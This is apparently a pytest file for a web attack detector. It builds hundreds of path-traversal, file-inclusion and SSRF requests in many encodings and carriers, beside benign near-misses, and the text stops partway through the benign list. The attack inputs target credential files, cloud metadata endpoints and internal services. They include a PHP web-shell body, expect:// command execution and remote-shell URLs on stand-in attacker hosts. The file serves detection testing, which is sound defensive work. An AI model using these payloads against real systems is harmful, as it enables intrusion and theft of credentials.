"""Path traversal / LFI, RFI and SSRF written the way other people write them, beside benign near-misses."""
from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest

from sensor.detect import THRESHOLD, verdict
from tests.detect.conftest import req

FAMILIES = ("ptrav", "rfi", "ssrf")
_FORM = [("Content-Type", "application/x-www-form-urlencoded")]
_JSON = [("Content-Type", "application/json")]
_XML = [("Content-Type", "application/xml")]


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


# --- carriers: each takes the value as an attacker (or a browser) puts it on the wire
def q(name: str, raw: str, path: str = "/view"):
    """Query parameter; `raw` is sent as written (already encoded where the payload is an encoding trick)."""
    return req(f"{path}?{name}={raw}")


def qv(name: str, value: str, path: str = "/view"):
    """Query parameter with the value percent-encoded the way a browser would."""
    return req(f"{path}?{name}={quote(value, safe='/:')}")


def form(name: str, value: str, extra: str = "lang=en"):
    return req("/submit", "POST", headers=_FORM, body=f"{extra}&{name}={quote(value, safe='')}".encode())


def js(obj) -> object:
    return req("/api/v1/items", "POST", headers=_JSON, body=json.dumps(obj).encode())


def xml(doc: str):
    return req("/api/import", "POST", headers=_XML, body=doc.encode())


def cookie(c: str):
    return req("/account", headers=[("Cookie", "sid=8f3a1c2d9e; " + c)])


def header(name: str, value: str):
    return req("/", headers=[(name, value)])


def path(target: str):
    return req(target)


def upload(filename: str, content: bytes = b"hello"):
    b = "----rampartBoundary7MA4YWxk"
    body = (f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\n"
            f"Content-Type: application/octet-stream\r\n\r\n").encode() + content + f"\r\n--{b}--\r\n".encode()
    return req("/upload", "POST", headers=[("Content-Type", f"multipart/form-data; boundary={b}")], body=body)


# ----------------------------------------------------------------------------------------------------------------
# Traversal in every encoding (PayloadsAllTheThings "Directory Traversal", dotdotpwn, LFI wordlists)
TRAVERSAL = [
    q("file", "../../../../etc/passwd"),
    q("file", "..%5c..%5c..%5cwindows%5cwin.ini"),
    q("page", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    q("page", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    q("doc", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    q("doc", "..%c1%9c..%c1%9c..%c1%9cboot.ini"),
    q("f", "%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/passwd"),
    q("f", "....//....//....//etc/passwd"),
    q("f", "..;/..;/..;/etc/passwd"),
    q("f", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    q("f", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem.ini"),
    q("name", "%e0%80%ae%e0%80%ae%e0%80%af%e0%80%ae%e0%80%ae%e0%80%afetc%e0%80%afpasswd"),
    q("name", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow"),
    q("name", "..%255c..%255c..%255cwindows%255cwin.ini"),
    q("path", "..\\/..\\/..\\/etc/passwd"),
    q("path", "../..\\../..\\etc/hosts"),
    q("img", "../../../../etc/passwd%00.png"),
    q("img", "..%2f..%2f..%2fetc%2fpasswd%00.jpg"),
    q("tpl", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    q("log", "..%2f..%2f..%2f..%2fvar%2flog%2fapache2%2faccess.log"),
    q("f", "%2e%2e/%2e%2e/%2e%2e/proc/self/environ"),
    q("f", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    q("f", "..0x2f..0x2f..0x2fetc0x2fpasswd"),
    q("f", "..././..././..././etc/passwd"),
    q("f", "%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"),
    q("f", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    q("f", "..%e2%88%95..%e2%88%95..%e2%88%95etc%e2%88%95passwd"),
    q("file", "\\..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"),
    q("file", "..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config"),
    q("file", "/%5c../%5c../%5c../etc/passwd"),
    q("file", "....%2f....%2f....%2fetc%2fpasswd"),
    q("file", "..%252f..%252f..%252fetc%252fshadow"),
    q("file", "..%25c0%25af..%25c0%25af..%25c0%25afetc/passwd"),
    q("file", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    q("download", "../../../../../../../../../../../../etc/hosts"),
    q("download", "..%2F..%2F..%2F..%2Fhome%2Fubuntu%2F.ssh%2Fid_rsa"),
    q("download", "../../../../root/.bash_history"),
    q("download", "../../.env"),
    q("download", "..%2f..%2f.env"),
    q("resource", "../../WEB-INF/web.xml"),
    q("resource", "..\\..\\WEB-INF\\web.xml"),
    q("resource", "../META-INF/MANIFEST.MF"),
    q("resource", "../../../../config/database.yml"),
    q("resource", "..%5c..%5cweb.config"),
    q("file", "../../../../../proc/self/cmdline"),
    q("file", "../../../../proc/self/fd/9"),
    q("file", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    q("lang", "../../../../../../etc/passwd%00"),
    q("lang", "..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd%2500"),
    q("template", "..%c0%af..%c0%af..%c0%afwindows%c0%afwin.ini"),
    q("file", "..%5C..%5C..%5C..%5CWindows%5CSystem32%5Cconfig%5CSAM"),
    q("file", "..\\..\\..\\..\\boot.ini"),
    q("file", "%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fetc%c0%2fpasswd"),
]

# Absolute paths to files an attacker reads (LFI wordlists: Linux, Windows, application secrets)
ABSOLUTE = [
    qv("file", "/etc/passwd"), qv("file", "/etc/shadow"), qv("file", "/proc/self/environ"),
    qv("file", "/proc/self/cmdline"), qv("file", "/proc/self/fd/7"), qv("file", "/var/log/apache2/access.log"),
    qv("file", "/var/log/nginx/error.log"), qv("file", "~/.ssh/id_rsa"), qv("file", "/root/.bash_history"),
    qv("file", "/home/deploy/.ssh/authorized_keys"), qv("page", "c:\\windows\\win.ini"), qv("page", "c:\\boot.ini"),
    qv("page", "C:\\inetpub\\wwwroot\\web.config"), qv("page", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    qv("page", "C:\\Windows\\System32\\config\\SAM"), qv("page", "c:/windows/repair/sam"),
    qv("page", "/etc/mysql/my.cnf"), qv("page", "/proc/self/status"), qv("page", "/proc/version"),
    qv("page", "/var/run/secrets/kubernetes.io/serviceaccount/token"), qv("page", "/etc/kubernetes/admin.conf"),
    qv("doc", "/proc/self/cwd/app.py"), qv("doc", "/proc/1/environ"), qv("doc", "/usr/local/etc/php/php.ini"),
    qv("doc", "/opt/tomcat/conf/tomcat-users.xml"), qv("doc", "C:\\xampp\\apache\\conf\\httpd.conf"),
    qv("doc", "C:\\Windows\\Panther\\Unattend.xml"), qv("doc", "c:\\windows\\system32\\inetsrv\\config\\applicationHost.config"),
    qv("doc", "/etc/nginx/nginx.conf"), qv("doc", "/var/www/html/.env"), qv("doc", "/var/www/html/wp-config.php"),
    qv("doc", "/etc/ssh/sshd_config"), qv("doc", "/home/app/.aws/credentials"), qv("doc", "/var/lib/mysql/mysql/user.MYD"),
    qv("doc", "C:/Windows/debug/NetSetup.log"), qv("doc", "/etc/httpd/conf/httpd.conf"),
    qv("doc", "%SYSTEMROOT%\\win.ini"), qv("doc", "/usr/local/tomcat/conf/server.xml"),
]

FILE_URLS = [
    qv("url", "file:///etc/passwd"), qv("url", "file://localhost/etc/passwd"), qv("src", "file:/etc/shadow"),
    qv("src", "file:///c:/windows/win.ini"), q("src", "FILE%3A%2F%2F%2Fetc%2Fpasswd"),
    form("import_url", "file:///proc/self/environ"), js({"source": {"uri": "file:///home/app/.ssh/id_rsa"}}),
]

# PHP stream wrappers and friends (php://filter chains, data:, expect:, zip:, phar:)
WRAPPERS = [
    qv("page", "php://filter/convert.base64-encode/resource=index.php"),
    qv("page", "php://filter/read=string.rot13/resource=config.php"),
    qv("page", "pHp://FilTer/convert.base64-encode/resource=../../config.php"),
    q("page", "php%3A%2F%2Ffilter%2Fconvert.iconv.utf-8.utf-16%2Fresource%3D%2Fetc%2Fpasswd"),
    req("/index.php?page=php://input", "POST", body=b"<?php system($_GET['c']); ?>"),
    qv("page", "expect://id"),
    qv("page", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+"),
    qv("page", "data:text/plain,<?php phpinfo(); ?>"),
    qv("page", "zip://uploads/avatar.zip#shell.php"),
    qv("page", "phar://uploads/avatar.jpg/shell.php"),
    qv("page", "compress.zlib:///etc/passwd"),
    qv("file", "php://fd/3"),
    form("template", "php://filter/resource=/etc/passwd"),
    js({"view": {"layout": "php://filter/convert.base64-encode/resource=wp-config.php"}}),
]

# Traversal in the URL path (Tomcat `..;`, CVE-2021-41773/42013, encoded slashes, nginx alias off-by-slash)
PATHS = [
    path("/..;/manager/html"), path("/app/..;/manager/html"), path("/static/..;/WEB-INF/web.xml"),
    path("/%2e%2e;/admin/"), path("/static/../../../../etc/passwd"), path("/download/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    path("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"), path("/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd"),
    path("/..%5c..%5c..%5cwindows/win.ini"), path("/assets/..%252f..%252f..%252fetc/passwd"),
    path("/static../.git/config"), path("/files/..%c0%af..%c0%af..%c0%afetc/passwd"),
    path("/WEB-INF/web.xml"), path("/images/%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini"),
    path("/.env"), path("/api/../../../proc/self/environ"), path("/public/..%2f..%2f..%2f..%2fproc/self/cmdline"),
    path("/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"),
]

# The same traversal in every other carrier
CARRIERS = [
    form("template", "../../../../etc/passwd"), form("attachment", "..\\..\\..\\windows\\win.ini"),
    js({"file": {"path": "../../../etc/passwd"}}), js({"attachments": [{"name": "..\\..\\..\\windows\\win.ini"}]}),
    js({"export": {"target": "/proc/self/environ"}}), js({"doc": "..\u2215..\u2215..\u2215etc\u2215passwd"}),
    xml("<doc><path>../../../../etc/shadow</path></doc>"), xml('<req><file name="..\\..\\boot.ini"/></req>'),
    cookie("lang=../../../../etc/passwd%00"), cookie("template=..%2f..%2f..%2fetc%2fpasswd"),
    cookie("theme=....//....//....//etc/passwd"), header("X-File", "../../../etc/passwd"),
    header("User-Agent", "../../../../../../etc/passwd"), header("X-Template", "..%2f..%2f..%2fproc%2fself%2fenviron"),
    upload("../../../../var/www/html/shell.php"), upload("..\\..\\..\\inetpub\\wwwroot\\shell.aspx"),
    req("/render", "POST", headers=[("Content-Type", "application/json")],
        body=b'{"view":"\\u002e\\u002e/\\u002e\\u002e/\\u002e\\u002e/etc/passwd"}'),
    qv("data", "Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA=="),  # base64 of ../../../../etc/passwd
]

# Remote file inclusion: a URL in a parameter that names code or a template
RFI = [
    qv("page", "http://evil.example/shell.txt?"), qv("file", "https://203.0.113.5/c99.php"),
    q("include", "ftp://attacker.example/x.txt%00"), qv("template", "//evil.example/shell.php"),
    qv("path", "\\\\evil.example\\share\\shell.php"), qv("lang", "http://evil.example/x?"),
    qv("mosConfig_absolute_path", "http://evil.example/shell.txt?"), qv("page", "hTtP://evil.example/x.txt"),
    q("page", "http:%2f%2fevil.example%2fshell.txt%3f"), qv("file", "http://[2001:db8::1]/shell.txt"),
    qv("include", "https://raw.githubusercontent.com/x/y/master/shell.php"), qv("module", "ftp://evil.example/m.php"),
    q("skin", "http://evil.example/x.txt%00"), qv("style", "\\\\10.0.0.5\\share\\x.php"),
    q("page", "http://evil.example/shell.php%00"), qv("inc", "http://evil.example/shell.txt#"),
    qv("file", "smb://evil.example/share/x.php"), qv("page", "HTTP://EVIL.EXAMPLE/SHELL.TXT?"),
    qv("page", "http://evil.example/x.jpg?"), qv("theme", "https://evil.example/"),
    qv("file", "//203.0.113.9/x.php"), qv("view", "http://evil.example/shell?"), qv("action", "http://evil.example/x.txt?"),
    cookie("lang=http://evil.example/x.txt?"), js({"config": {"template": "http://evil.example/t.txt?"}}),
    form("module", "ftp://evil.example/m.php"), form("include_path", "http://198.51.100.7/"),
    qv("page", "http://evil.example/shell.txt??"), qv("file", "\\\\evil.example@SSL\\DavWWWRoot\\x.php"),
    qv("page", "https://evil.example/payload.txt%3F"), qv("load", "//evil.example/payload"),
]

# SSRF: metadata services, loopback in every spelling, URL parser confusion, non-HTTP schemes, internal ports
SSRF = [
    qv("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    qv("url", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    qv("url", "http://100.100.100.200/latest/meta-data/"), qv("url", "http://[fd00:ec2::254]/latest/meta-data/"),
    qv("url", "http://[::ffff:169.254.169.254]/"), qv("url", "http://[::ffff:a9fe:a9fe]/latest/"),
    qv("url", "http://169.254.169.254.nip.io/"), qv("url", "http://0xa9fea9fe/"), qv("url", "http://2852039166/"),
    qv("url", "http://0251.0376.0251.0376/"), qv("url", "http://169.254.43518/"), qv("url", "http://127.1/admin"),
    qv("url", "http://0x7f000001/"), qv("url", "http://2130706433/"), qv("url", "http://0177.0.0.1/"),
    qv("url", "http://[::]/"), qv("url", "http://[::1]:8080/"), qv("url", "http://0.0.0.0:6379/"),
    qv("url", "http://localhost./admin"), qv("url", "http://127.0.0.1.nip.io/"), qv("url", "http://0/"),
    qv("url", "http://127.000.000.001/"), qv("url", "http://[0:0:0:0:0:ffff:127.0.0.1]/"),
    qv("url", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/"), qv("url", "http://evil.com@127.0.0.1/"),
    qv("url", "http://127.0.0.1#@evil.com/"), qv("url", "http://127.1:80\\@evil.example/"),
    qv("url", "http://foo@[::1]/"), qv("url", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
    qv("url", "dict://127.0.0.1:11211/stats"), qv("url", "ldap://127.0.0.1:389/%0astats"),
    qv("url", "tftp://evil.example:69/x"), qv("url", "jar:http://evil.example/x.jar!/"), qv("url", "netdoc:///etc/passwd"),
    qv("url", "http://10.0.0.5:8500/v1/agent/self"), qv("url", "http://192.168.1.1/admin"),
    qv("url", "http://172.16.0.10:9200/_cat/indices"), qv("url", "http://127.0.0.1:2375/containers/json"),
    qv("url", "http://localhost:8080/actuator/env"), qv("url", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    qv("url", "http://instance-data/latest/meta-data/"), qv("url", "http://169.254.170.2/v2/credentials"),
    qv("url", "http://metadata/computeMetadata/v1/instance/"), qv("url", "http://[0:0:0:0:0:0:0:1]/"),
    qv("url", "http://127.127.127.127/"), qv("url", "http://localtest.me/"), qv("url", "http://0x7f.0x0.0x0.0x1/"),
    qv("url", "http://017700000001/"), qv("url", "http://[::127.0.0.1]/"), qv("url", "http://[::ffff:7f00:1]/"),
    qv("url", "http://7f000001.c0a80001.rbndr.us/"), qv("url", "http://redis:6379/"),
    qv("url", "http://elasticsearch.svc.cluster.local:9200/_search"), qv("url", "http://192.168.0.1:22/"),
    qv("url", "https://metadata.azure.com/metadata/instance?api-version=2021-02-01"),
    qv("url", "http://[fe80::1]/"), qv("url", "http://0.0.0.0/"), qv("url", "http:/\\/\\127.0.0.1/"),
    q("url", "http:%2f%2f169.254.169.254%2flatest%2fmeta-data%2f"), q("url", "http%3A%2F%2F127.0.0.1%3A6379%2F"),
    js({"webhook": "http://169.254.169.254/latest/meta-data/"}),
    js({"integration": {"callback_url": "http://127.0.0.1:8080/admin"}}),
    js({"hooks": [{"target": "http://[::1]:9000/"}]}), xml("<feed><url>http://localhost:8080/</url></feed>"),
    xml('<import src="http://169.254.169.254/latest/user-data"/>'), form("avatar_url", "http://169.254.169.254/latest/"),
    form("website", "http://127.0.0.1:22/"), cookie("img=http://127.0.0.1/"), cookie("next=gopher://10.0.0.3:25/_HELO"),
    path("/image-proxy/fetch/http://169.254.169.254/latest/meta-data/"), path("/fetch/http:%2f%2f127.0.0.1:8080%2fadmin"),
    qv("feed", "http://0x7f.1/"), qv("url", "http://2130706433:8080/"),
]

ATTACKS = TRAVERSAL + ABSOLUTE + FILE_URLS + WRAPPERS + PATHS + CARRIERS + RFI + SSRF


# A second batch written after the detectors were changed and measured before any further change (see the report)
FRESH = [
    q("file", "..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fgroup"), q("filename", "....%5C....%5C....%5Cwindows%5Cwin.ini"),
    q("path", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fissue"), q("document", "..%252F..%252F..%252F..%252Fetc%252Fhostname"),
    qv("f", "/../../../../../../../../etc/motd"), qv("image", "../../../../../../var/www/html/config.php"),
    qv("report", "..\\..\\..\\..\\..\\Windows\\System32\\config\\SYSTEM"), qv("page", "../../../../../../../../proc/self/maps"),
    qv("page", "/proc/self/mounts"), q("item", "..%2f..%2f..%2f..%2fusr%2flocal%2fapache2%2fconf%2fhttpd.conf"),
    q("lang", "../../../../../../../../../../windows/win.ini%00"), q("filepath", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    q("name", "%2e%2e%5c%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini"),
    q("doc", "..%5c..%5c..%5c..%5cProgramData%5cMySQL%5cMySQL%20Server%208.0%5cmy.ini"),
    q("file", "%252e%252e%255c%252e%252e%255cwindows%255cwin.ini"), qv("file", "/var/log/auth.log"),
    qv("file", "/var/log/httpd/error_log"), qv("log", "../../../../../../var/log/nginx/access.log"),
    qv("file", "/home/www-data/.bash_history"), qv("file", "C:\\Users\\Administrator\\.ssh\\id_rsa"),
    qv("file", "\\\\localhost\\c$\\windows\\win.ini"), qv("cfg", "/usr/local/etc/nginx/nginx.conf"),
    qv("download_path", "../../../../app/config/parameters.yml"), qv("export", "../../../.git/config"),
    qv("backup", "../../../../.aws/credentials"), qv("load", "../../../../etc/environment"),
    js({"avatar": {"path": "../../../../../etc/passwd"}}), xml("<config><include>../../../../etc/shadow</include></config>"),
    cookie("tpl=..%252f..%252f..%252f..%252fetc%252fpasswd"), header("X-Original-URL", "/../../../../etc/passwd"),
    path("/..%2f..%2f..%2f..%2fetc%2fpasswd"), path("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), path("/static/%2e%2e%2f%2e%2e%2f.env"),
    path("/..\\..\\..\\windows\\win.ini"), path("/app/..;/..;/..;/etc/passwd"), path("/.git/config"), path("/.aws/credentials"),
    path("/WEB-INF/classes/application.properties"), path("/assets/../../../../proc/self/environ"),
    upload("..%2f..%2f..%2fetc%2fcron.d%2fx"),
    qv("url", "http://169.254.169.254/latest/api/token"), qv("url", "http://[::ffff:169.254.169.254]:80/latest/"),
    qv("url", "http://0251.254.169.254/"), qv("url", "http://0xA9.254.0251.0376/"), qv("url", "http://127.0.0.1:25/"),
    qv("url", "http://[0:0:0:0:0:0:0:0]/"), qv("url", "http://localhost:11211/"),
    qv("url", "https://kubernetes.default.svc.cluster.local/api"), qv("url", "http://consul.service.consul:8500/v1/kv/"),
    qv("url", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
    qv("url", "http://169.254.169.254/metadata/v1/"), qv("url", "http://169.254.169.254/openstack/latest/meta_data.json"),
    qv("url", "http://192.0.0.192/latest/"), qv("url", "http://100.100.100.200/latest/meta-data/instance-id"),
    qv("url", "gopher://localhost:25/_HELO%20localhost"), qv("url", "dict://localhost:6379/info"),
    qv("url", "ldap://localhost:11211/%0astats%0aquit"), qv("url", "sftp://evil.example:11111/"),
    qv("url", "tftp://evil.example:12346/TESTUDPPACKET"), qv("url", "jar:https://evil.example/x.zip!/file.txt"),
    qv("url", "http://\u2460\u2465\u2468\u3002\u2461\u2464\u2463\u3002\u2460\u2465\u2468\u3002\u2461\u2464\u2463/"),
    qv("url", "http://google.com:80+&@127.88.23.245:22/#+@google.com:80/"), qv("url", "http://0x7f.0x00.0x00.0x01:6379/"),
    qv("url", "http://127.0.0.1.xip.io:8080/"), qv("url", "http://customer.127.0.0.1.sslip.io/"), qv("url", "http://localtest.me:3306/"),
    qv("url", "http://[::1]/server-status"), qv("url", "https://169.254.169.254.nip.io/latest/meta-data/"),
    js({"image_url": "http://10.0.0.1:9000/minio/admin"}), js({"jwks_uri": "http://127.0.0.1:8001/"}),
    js({"logo_uri": "http://169.254.169.254/latest/meta-data/"}), form("callback", "http://[::]:22/"),
    xml("<Callback>http://172.31.0.1:2379/v2/keys</Callback>"), cookie("redirect=http://127.1:9200/_cluster/health"),
    path("/image/fetch/http://127.0.0.1:8080/admin"),
    qv("page", "http://198.51.100.23/backdoor.txt?"), qv("inc", "https://pastebin.com/raw/AbCdEf12?"),
    qv("template", "ftp://anonymous:x@evil.example/shell.txt"), qv("file", "\\\\198.51.100.3\\public\\shell.php"),
    qv("module", "//evil.example/m.txt?"), q("include", "http://evil.example/shell.txt%00"), qv("lang", "https://evil.example/lang.php?"),
    qv("page", "data:;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=="),
    qv("page", "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd"), qv("path", "expect://whoami"),
    qv("document", "phar:///var/www/uploads/img.jpg/x"), qv("conf", "http://evil.example:8080/config.inc.txt"),
    qv("theme_dir", "http://evil.example/themes/"), js({"plugin": {"path": "http://evil.example/plugin.php"}}),
    qv("site", "http://evil.example/shell.txt?"), qv("url", "http://evil.example/c99.txt??"),
]
# A third batch, written after the second round of changes (72/73 caught before the `%SYSTEMROOT%` fix)
FRESH3 = [
    q("f","%2e./%2e./%2e./etc/passwd"), q("f",".%2e%2f.%2e%2f.%2e%2fetc%2fpasswd"), q("f","..%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
    path("/..%c0%af../..%c0%af../etc/passwd"), q("f","%ef%bc%8e%ef%bc%8e/%ef%bc%8e%ef%bc%8e/etc/passwd"), q("f","..%e0%80%af..%e0%80%afetc%e0%80%afpasswd"),
    q("f","..%25%35%63..%25%35%63windows%25%35%63win.ini"), q("f","%2e%2e%u2216%2e%2e%u2216windows%u2216win.ini"), qv("f","..//..//..//etc//passwd"),
    path("/app;jsessionid=abc/../../WEB-INF/web.xml"), qv("f","....\\/....\\/....\\/etc/passwd"), q("f","..%00/..%00/..%00/etc/passwd"),
    qv("file","php://filter/string.toupper|string.rot13|string.tolower/resource=/etc/passwd"), q("file","/etc/passwd%00"), q("file","%2fetc%2fpasswd"),
    q("file","%252fetc%252fpasswd"), q("file","/etc/passwd%20"), qv("file","/./etc/./passwd"), qv("file","\\/etc\\/passwd"),
    qv("file","/var/www/../../etc/passwd"), qv("file","/proc/self/fd/0"), qv("file","%SYSTEMROOT%\\system32\\config\\sam"),
    qv("file","C:\\Windows\\System32\\config\\SAM::$DATA"), qv("file","C:/boot.ini"), qv("file","\\\\.\\C:\\windows\\win.ini"),
    qv("file","file:///c:/boot.ini"), qv("file","jar:file:///tmp/x.jar!/"), qv("file","WEB-INF\\web.xml"), qv("path","/WEB-INF/web.xml"),
    q("file","..%2fWEB-INF%2fweb.xml"), qv("page","....//....//....//proc/self/environ"),
    q("template","../../../../../../../../../../../../../../etc/passwd%00.html"), q("lang","../../../../../../../../../../etc/passwd%2500.php"),
    header("Accept-Language","../../../../etc/passwd"), header("Referer","../../../etc/passwd"), cookie("lang=..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    qv("url","http://127.0.0.1:80"), qv("url","http://localhost"), qv("url","http://[::1]"), qv("url","HTTP://LOCALHOST/"),
    qv("url","http://LocalHost:8080/"), qv("url","http://127\u30020\u30020\u30021/"), qv("url","http://0177.00.00.01/"), qv("url","http://0x7f.00.00.01/"),
    qv("url","https://evil.example/redirect?to=http://169.254.169.254/"), qv("url","http://[::ffff:127.0.0.1]:8080"),
    q("url","http://%256c%256f%2563%2561%256c%2568%256f%2573%2574/"), q("url","http://169.254.169.254%23.evil.example/"),
    qv("url","http://2852039166:80/latest"), qv("url","http://[fd00::1]/"), qv("url","http://0:8000/"),
    qv("url","http://127.1.1.1:80\\@127.2.2.2:80/"), qv("url","http://127.0.0.1:11211"), qv("url","gopher://127.0.0.1:9000/_%01%01%00%01"),
    qv("url","http://instance-data.ec2.internal/"), qv("url","http://169.254.169.254.xip.io/"), js({"url": "http://[::]:80/"}),
    xml('<Envelope><ReplyTo><Address>http://127.0.0.1:8080/</Address></ReplyTo></Envelope>'),
    xml('<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://169.254.169.254/latest/meta-data/"/></svg>'),
    q("page","http://evil.example/shell.txt%3f"), q("page","https://evil.example/shell.txt%2500"), qv("page","http:/\\/\\evil.example/shell.txt?"),
    qv("file","http://evil.example/x.php?cmd=id"), qv("path","ftp://user:pass@198.51.100.9/shell.php"),
    q("GLOBALS[include_path]","http://evil.example/"), q("_SERVER[DOCUMENT_ROOT]","http://evil.example/shell.txt?"), qv("page","\\\\evil.example\\share\\x"),
    qv("url", "http://0x7f000001:80/"), qv("url", "http://0x0:8080/"), qv("u", "http://169.254.169.254"), qv("target","http://[::ffff:a9fe:a9fe]/"),
    form("webhook_url", "http://127.0.0.1:5000/"), js({"callbackUrl": "http://metadata.google.internal/computeMetadata/v1/project/project-id"}),
]
# A fourth batch (carriers and encodings: JSON escapes, base64, entities, GraphQL, multipart, Unicode look-alikes),
# written after the third round. SSRF/RFI in custom request headers (≥ 0.85) count since round 2: see CLASSES below.
FRESH4 = [
    js({"url": "http:\\/\\/169.254.169.254\\/latest\\/meta-data\\/"}),
    req("/api", "POST", headers=[("Content-Type", "application/json")], body=b'{"url":"http:\\/\\/127.0.0.1:8080\\/admin"}'),
    req("/api", "POST", headers=[("Content-Type", "application/json")], body=b'{"file":"\\u002e\\u002e\\u002f\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"}'),
    js({"data": b64("http://169.254.169.254/latest/meta-data/")}), qv("next", b64("../../../../etc/passwd")),
    form("doc", "&#46;&#46;&#47;&#46;&#46;&#47;&#46;&#46;&#47;etc&#47;passwd"),
    form("u", "http&#58;//127.0.0.1&#58;6379/"), xml('<r><u>http://&#49;&#50;&#55;.0.0.1/admin</u></r>'),
    xml('<!DOCTYPE r [<!ENTITY p "../../../../etc/passwd">]><r><f>&p;</f></r>'),
    req("/graphql", "POST", headers=[("Content-Type", "application/json")], body=json.dumps({"query": "mutation($u:String!){import(url:$u){id}}", "variables": {"u": "http://169.254.169.254/latest/meta-data/"}}).encode()),
    req("/graphql", "POST", headers=[("Content-Type", "application/json")], body=json.dumps({"query": '{ file(path: "../../../../etc/passwd") { content } }'}).encode()),
    req("/upload", "POST", headers=[("Content-Type", "multipart/form-data; boundary=XX")], body=b'--XX\r\nContent-Disposition: form-data; name="avatar_url"\r\n\r\nhttp://[::1]:2375/containers/json\r\n--XX--\r\n'),
    req("/upload", "POST", headers=[("Content-Type", "multipart/form-data; boundary=XX")], body=b'--XX\r\nContent-Disposition: form-data; name="template"\r\n\r\n....//....//....//etc/passwd\r\n--XX--\r\n'),
    cookie("url=http%253A%252F%252F169.254.169.254%252Flatest"), cookie("file=Li4vLi4vLi4vZXRjL3Bhc3N3ZA%3D%3D"),
    header("X-File-Path", "..%2f..%2f..%2fetc%2fpasswd"),
    q("f", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%65%74%63%2f%70%61%73%73%77%64"), q("f", "%252e%252e%252f%252e%252e%252f%2565%2574%2563%252fpasswd"),
    q("u", "%68%74%74%70%3a%2f%2f%31%32%37%2e%30%2e%30%2e%31%2f"), qv("u", "HtTp://LoCaLhOsT:8080/"),
    qv("url", "http://127.0.0.1:8080/\u2025/"), qv("f", "\u2024\u2024/\u2024\u2024/etc/passwd"),  # one-dot leader, two-dot leader
    qv("f", "..\u2215..\u2215etc\u2215passwd"), qv("f", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd"),
    qv("url", "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/"), qv("url", "http://\uff11\uff12\uff17.0.0.1/"),
    path("/static/%252e%252e/%252e%252e/%252e%252e/etc/passwd"), path("/a/b/c/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows%2fwin.ini"),
    path("/download;/../../../../etc/passwd"), path("/files/..%5c..%5c..%5c..%5cboot.ini"),
    req("/view?file=" + "../" * 40 + "etc/passwd"),
    js({"config": {"steps": [{"type": "fetch", "params": {"endpoint": "http://0x7f000001:8080/"}}]}}),
    xml('<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://127.0.0.1:22/</string></value></param></params></methodCall>'),
]
FRESH_BENIGN = [
    qv("path", "/products/shoes/running"), qv("file", "2024/06/invoice.pdf"), qv("img", "images/2024/06/banner@2x.png"),
    qv("q", "etc etc"), qv("q", "passwd reset not working"), qv("comment", "Thanks!!! Works... finally."),
    qv("title", "Part 1/2: the beginning"), qv("ratio", "16/9"), qv("url", "https://maps.google.com/?q=52.5200,13.4050"),
    qv("callback", "https://example.com/cb?state=abc&code=xyz"), js({"endpoint": "https://api.stripe.com/v1/charges"}),
    js({"server": "smtp.gmail.com", "port": 587}), qv("q", "how to access http://localhost from another device"),
    qv("q", "192.168.1.1 admin login"), form("msg", "ping 8.8.8.8 fails from the office"), qv("ip", "::1"),
    qv("dns", "1.1.1.1, 8.8.8.8"), form("note", "See section 3.2.1/4 for details"),
    path("/downloads/v1.2.3/app-1.2.3.tar.gz"), qv("file", "resume (1).pdf"), qv("file", "my.photo.2024.06.01.jpg"),
